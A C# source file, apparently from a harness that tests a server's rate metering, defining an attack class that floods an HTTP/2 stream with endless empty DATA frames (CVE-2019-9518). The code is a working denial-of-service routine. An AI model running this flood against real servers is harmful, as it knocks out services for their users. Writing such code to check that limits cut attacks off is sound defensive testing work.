namespace Metering.Attacks;

/// <summary>
/// Sends DATA frames without data on an open stream: frames that pass flow control for nothing. CVE-2019-9518.
/// </summary>
internal sealed class EmptyFrameFlood : Attack
{
    public override string Name => "empty-frame-flood";

    public override string Does => "empty DATA frames, which flow control does not hold back (CVE-2019-9518)";

    public override IReadOnlyList<string> MetBy => ["ControlFrames", "ControlFramesPerSecond"];

    public override string Unit => "frames";

    public override double UnitsPerSecond => 50_000;

    public override bool IsCutOff => true;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async();
        await connection.SendAsync(new FrameBatch().Headers(1, HeaderBlock.OfCall(Messages.WritePath, lane.Target.Token)).Bytes);
        var batch = new FrameBatch();
        while (true)
            await lane.SendAsync(connection, batch, most: 1000, frames => frames.Data(1, []));
    }
}
